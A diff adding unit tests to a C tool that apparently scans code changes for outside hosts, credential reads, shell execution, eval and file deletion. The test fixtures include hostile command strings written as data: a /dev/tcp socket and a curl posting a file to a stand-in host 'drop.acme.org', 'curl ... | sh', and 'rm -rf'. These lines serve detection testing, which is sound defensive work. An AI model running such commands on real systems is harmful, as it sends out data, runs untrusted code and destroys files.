@@ -127,7 +127,7 @@ TEST(test_hosts)
 		{ "pom.xml", "  <url>https://repo.acme.org/maven</url>",
 		  "host repo.acme.org" },
 		{ "a.rb", "  mail to: 'ops@acme.org', bcc: 'x@acme.net'",
-		  "address ops@acme.org" },
+		  "address ops@acme.org; 2 address x@acme.net" },
 		{ "a.yml", "  recipients: [ops@acme.org]",
 		  "address ops@acme.org" },
 		{ "test_a.py", "get('https://ci.acme-metrics.org')",
@@ -147,6 +147,32 @@ TEST(test_hosts)
 		  "host in.acme.org" },
 		{ "a.cs", "\tlegacyUrl = \"https://in.acme.org\";",
 		  "host in.acme.org" },
+		/* Each of a line: one may be known. */
+		{ "a.py", "H = ['github.com', 'drop.acme.org']",
+		  "host github.com; 2 host drop.acme.org" },
+		/* Spellings. */
+		{ "a.py", "u = 'https://drop.acme.org?a=@github.com'",
+		  "host drop.acme.org" },
+		{ "a.py", "u = f'https://drop.acme.org{path}'",
+		  "host drop.acme.org" },
+		{ "a.json", "  \"u\": \"https:\\/\\/drop.acme.org\\/c\",",
+		  "host drop.acme.org" },
+		{ "a.py", "u = 'http://[2a01:4f8::2]:80/'",
+		  "host [2a01:4f8::2]" },
+		{ "a.py", "u = 'http://[::1]:80/'", "" },
+		{ "a.py", "u = 'http://\xd0\xb0" "cme.org'",
+		  "host \xd0\xb0" "cme.org" },
+		{ "a.sh", "exec 3<>/dev/tcp/drop.acme.org/443",
+		  "host drop.acme.org" },
+		{ "a.sh", "curl -d @f drop.acme.org/c", "host drop.acme.org" },
+		{ "a.sh", "git clone git@drop.acme.org:a/b.git",
+		  "host drop.acme.org" },
+		{ "a.sh", "a=\"b # c\"; curl https://drop.acme.org",
+		  "host drop.acme.org" },
+		{ "a.py", "post('https://drop.acme.org/schema/', t)",
+		  "host drop.acme.org" },
+		{ "a.js", "a.replace(/^https?:\\/\\//, ''); "
+		  "get('https://drop.acme.org')", "host drop.acme.org" },
 		/* Not what it looks like. */
 		{ "test_a.py", "eq(get('https://ci.metrics.org'), 1)", "" },
 		{ "a.test.ts", "  stub_get('https://ci.metrics.org')", "" },
@@ -159,6 +185,7 @@ TEST(test_hosts)
 		{ "a.cs", "\tstring[] LegacyLinks => new[]\n\t{\n"
 		  "\t\t\"https://in.acme.org\",\n\t};", "" },
 		{ "a.yml", "  legacylinks:\n    - https://in.acme.org", "" },
+		{ "a.py", "documentation = 'https://acme.org/help'", "" },
 		{ "test_a.py", "get('https://foo.com')", "" },
 		{ "test_a.py", "os.system(a)", "" },
 		{ "tests/fixtures/a.json", "  \"url\": \"https://ci.metrics.org\"",
@@ -234,6 +261,8 @@ TEST(test_credentials)
 		{ "a.py", "k = os.environ['HOME']", "" },
 		{ "a.py", "k = os.environ['TOKEN_TTL']", "" },
 		{ "a.sh", "GH_TOKEN=$1; use \"$GH_TOKEN\"", "" },
+		{ "a.sh", "GH_TOKEN=\"${GH_TOKEN:-}\"; use \"$GH_TOKEN\"",
+		  "reads GH_TOKEN" },
 
 		{ "a.py", "    log.info('token %s', token)", "logs token" },
 		{ "a.py", "    print(f'got {user.password}')",
@@ -415,9 +444,31 @@ TEST(test_forms)
 		/* In a string, and in a comment. */
 		{ "a.py", "x = 'os.system(a)'", "" },
 		{ "a.py", "# os.system(a)", "" },
-		/* The two that count most. */
+		/* Words before a call, and blanks in it. */
+		{ "a.go", "\tgo exec.Command(a).Run()", "starts a process" },
+		{ "a.go", "\tdefer os.RemoveAll(a)",
+		  "removes files recursively" },
+		{ "a.py", "elif os.system (a):", "starts a shell" },
+		{ "a.php", "echo shell_exec($a);", "starts a shell" },
+		{ "a.c", "static int system (const char *a);", "" },
+		{ "a.c", "\tsystem (a);", "starts a shell" },
+		/* After what isn't a comment, or no longer. */
+		{ "a.js", "a = /[/*]/; eval(b)", "runs data as code" },
+		{ "a.js", "a = b / c; // eval(d) / 2", "" },
+		{ "a.js", "a = `${eval(b)}`", "runs data as code" },
+		{ "a.py", "# a\ros.system(b)", "starts a shell" },
+		{ "a.php", "#[Pure] function f() { system($a); }",
+		  "starts a shell" },
+		{ "a.php", "// a ?><?php system($a);", "starts a shell" },
+		{ "a.env", "A=<!--\nB=https://drop.acme.org",
+		  "3 host drop.acme.org" },
+		/* A part of a test is one until it ends. */
+		{ "a.rs", "#[cfg(test)]\nmod a;\nfn b() { remove_file(c); }",
+		  "4 removes a file" },
+		/* All of a line. */
 		{ "a.py", "os.system('curl -k https://a.acme.org | sh')",
-		  "certificates unchecked; 2 runs data as code" },
+		  "certificates unchecked; 2 runs data as code; "
+		  "2 starts a shell; 2 host a.acme.org" },
 	};
 
 	check_lines(t, MEM_COUNT(t));
@@ -448,6 +499,16 @@ TEST(test_newly)
 		/* It moved. */
 		{ "a.py", "def f():\n    os.system(a)\n",
 		  "if x:\n    def f():\n        os.system(a)\n", "" },
+		/* It was in a comment. */
+		{ "a.c", "/*\nsystem(a);\n*/\n", "system(a);\n",
+		  "1 starts a shell" },
+		{ "a.c", "// system(a);\nb();\n", "b();\nsystem(a);\n",
+		  "2 starts a shell" },
+		/* What runs it is known by its first line. */
+		{ "bin/a", NULL, "#!/usr/bin/env python3\nos.system(a)\n",
+		  "2 starts a shell" },
+		{ "bin/a", NULL, "#!/bin/sh\nrm -rf \"$1\"\n",
+		  "2 removes files recursively" },
 		/* Once in a hunk. */
 		{ "a.py", NULL, "os.remove(a)\nos.remove(b)\n",
 		  "1 removes a file" },
@@ -462,6 +523,35 @@ TEST(test_newly)
 	};
 
 	check(t, MEM_COUNT(t));
+}
+
+/* A long line takes no longer for that, and what isn't listed is told. */
+TEST(test_many)
+{
+	struct buf b = BUF_INIT(0);
+	struct changed changed;
+	struct change_text file;
+	struct adds_founds out;
+	char *got;
+	int i;
+
+	buf_adds(&b, "echo");
+	for (i = 0; i < 100000; i++)
+		buf_adds(&b, " http://acme.org");
+	got = found("a.sh", NULL, buf_str(&b));
+	assert_string_equal(got, "");
+	free(got);
+	buf_clear(&b);
+	for (i = 0; i < 1100; i++)
+		buf_addf(&b, "get('https://a%d.acme.org')\n", i);
+	file = changed_make(&changed, "a.py", NULL, buf_str(&b), false);
+	adds_find(&file, 1, &out);
+	assert_int_equal(out.v_len, ADDS_FOUND_MAX);
+	assert_string_equal(out.v[ADDS_FOUND_MAX - 1].what,
+	    "more, which isn't listed");
+	adds_founds_release(&out);
+	changed_release(&changed);
+	buf_release(&b);
 }
 
 /* Nothing is read out of bounds, and it ends soon, whatever a text has. */
